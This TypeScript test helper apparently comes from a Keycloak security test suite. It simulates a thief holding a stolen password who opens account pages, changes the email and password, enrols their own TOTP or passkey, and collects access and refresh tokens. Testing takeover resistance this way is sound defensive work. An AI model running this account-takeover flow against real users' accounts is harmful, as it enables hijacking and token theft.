import type { HttpResponse } from '../http-clients.ts'
import { registerPasskey } from './passkey.ts'
import { launchBrowser, type Token } from './sign-in.ts'
import { codeOf, newApp, type App } from './totp.ts'

export const THIEF_PASSWORD = 'a thief chose this one 7'

type Browser = ReturnType<typeof launchBrowser>
/** An account whose password is stolen, with its authenticator app if it has one. */
export type Victim = { username: string; password: string; app: App | null }

type Fields = Record<string, string>
/** A Keycloak page: parameters that open it, a field it has, and the fields a thief submits. */
type Page = {
  more?: Record<string, string>
  has: string
  fields: (page: HttpResponse, origin: string) => Fields | Promise<Fields>
}

const action = (kc_action: string) => ({ more: { kc_action } })
const setUpCodes = async ({ body }: HttpResponse) => {
  const secret = /name="totpSecret"[^>]*value="([^"]*)"/.exec(body)?.[1] ?? ''
  return { totp: await codeOf({ ...newApp(), secret }), userLabel: 'thief' }
}
const passkey = {
  has: 'attestationObject',
  fields: ({ body }: HttpResponse, origin: string) => registerPasskey(body, origin),
}

export const PAGES = {
  profile: {
    ...action('UPDATE_PROFILE'),
    has: 'firstName',
    fields: () => ({ firstName: 'Still', lastName: 'Here' }),
  },
  email: {
    ...action('UPDATE_EMAIL'),
    has: 'email',
    fields: () => ({ email: 'thief@example.test' }),
  },
  password: {
    ...action('UPDATE_PASSWORD'),
    has: 'password-new',
    fields: () => ({ 'password-new': THIEF_PASSWORD, 'password-confirm': THIEF_PASSWORD }),
  },
  codes: { ...action('CONFIGURE_TOTP'), has: 'totpSecret', fields: setUpCodes },
  passkey: { ...action('webauthn-register-passwordless'), ...passkey },
  'security key': { ...action('webauthn-register'), ...passkey },
  recovery: {
    ...action('CONFIGURE_RECOVERY_AUTHN_CODES'),
    has: 'generatedRecoveryAuthnCodes',
    fields: () => ({}),
  },
  /** Requested by the site for an account without a second factor. */
  'set-up': { more: { acr_values: 'mfa' }, has: 'totpSecret', fields: setUpCodes },
  /** Recovery codes, shown after the set-up of an authenticator app. */
  'after set-up': {
    more: { acr_values: 'mfa' },
    has: 'generatedRecoveryAuthnCodes',
    fields: () => ({}),
  },
  /** After the password, before a session exists. */
  code: { has: 'otp', fields: () => ({}) },
} satisfies Record<string, Page>
export type PageName = keyof typeof PAGES

/** Opens the page with the stolen password, entered on every form that asks for it. */
export async function openPage(browser: Browser, name: PageName, victim: Victim) {
  const { more, has }: Page = PAGES[name]
  let page = await browser.begin(more)
  for (let step = 0; step < 6 && !hasField(page, has); step++)
    if (hasField(page, 'password')) page = await browser.submit(page, credentialsOf(victim))
    else if (hasField(page, 'otp') && victim.app)
      page = await browser.submit(page, { otp: await codeOf(victim.app) })
    else if (hasField(page, 'totpSecret')) page = await setUp(browser, page, victim)
    else if (hasField(page, PAGES.recovery.has)) page = await browser.submit(page, {})
  if (!hasField(page, has))
    throw new Error(`${name} of ${victim.username} did not open: ${page.status}`)
  return page
}

/** Submits the page as a thief; returns every token obtained from it. */
export async function finishPage(
  browser: Browser,
  {
    name,
    page,
    victim,
    origin,
  }: { name: PageName; page: HttpResponse; victim: Victim; origin: string },
) {
  const { fields }: Page = PAGES[name]
  const isCode = name === 'code' && victim.app
  const given = isCode ? { otp: await codeOf(isCode) } : await fields(page, origin)
  const next = await browser.submit(page, given).catch(() => page)
  const { token } = await browser.end(next, newApp()).catch(() => NO_TOKEN)
  // Silent sign-in with the browser's remaining cookies.
  const silent = await browser.begin({ prompt: 'none' }).then((response) => browser.end(response))
  const tokens = [token, silent.token].filter((one) => one.access_token)
  const renewed = await Promise.all(tokens.map((one) => browser.refresh(one)))
  return [...tokens, ...renewed.filter((one) => one.access_token)]
}

const NO_TOKEN: { token: Token } = { token: {} }

const hasField = ({ body }: HttpResponse, name: string) => body.includes(`name="${name}"`)

export const credentialsOf = ({ username, password }: Victim) => ({ username, password })

async function setUp(browser: Browser, page: HttpResponse, victim: Victim) {
  const app = newApp()
  app.secret = /name="totpSecret"[^>]*value="([^"]*)"/.exec(page.body)?.[1] ?? ''
  victim.app = app
  return browser.submit(page, { totp: await codeOf(app), userLabel: 'drill' })
}
